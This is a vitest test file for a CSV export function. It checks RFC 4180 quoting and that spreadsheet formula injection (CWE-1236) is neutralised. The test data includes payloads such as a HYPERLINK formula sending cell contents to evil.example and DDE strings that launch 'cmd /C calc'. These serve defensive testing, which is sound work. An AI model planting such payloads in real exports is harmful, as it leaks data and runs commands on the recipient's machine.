import { describe, expect, it } from 'vitest'
import { csvOf } from './csv.ts'

const cells = (text: string): string => csvOf(['a'], [[text]]).split('\r\n')[1]!

describe('a table as CSV', () => {
  it('ends every record by CRLF, quotes what is text and doubles quotes in it — RFC 4180 §2.1, §2.5, §2.7', () => {
    expect(
      csvOf(
        ['区域', 'count'],
        [
          ['CN-GD', 3],
          ['say "a", b', -1],
        ],
      ),
    ).toBe('\u{FEFF}"区域","count"\r\n"CN-GD",3\r\n"say ""a"", b",-1\r\n')
  })

  it('keeps a line break inside its quotes — RFC 4180 §2.6', () => {
    expect(csvOf(['a'], [['one\r\ntwo']])).toBe('\u{FEFF}"a"\r\n"one\r\ntwo"\r\n')
  })

  it.each([
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
    '=1";=2',
    '-',
  ])('lets no spreadsheet compute %j — CWE-1236', (text) => {
    const written = csvOf(['a'], [[text]]).slice('\u{FEFF}"a"\r\n'.length, -2)
    expect(written.startsWith(`"'`)).toBe(true)
    expect(written).toBe(`"'${text.replaceAll('"', '""')}"`)
  })

  it.each(['CN-GD', 'RSA-PSS SHA-256', '1-2', "it's", ''])('leaves %j as it is', (text) => {
    expect(cells(text)).toBe(`"${text}"`)
  })

  it('makes the names of columns inert too', () => {
    expect(csvOf(['=1+1'], [])).toBe(`\u{FEFF}"'=1+1"\r\n`)
  })
})
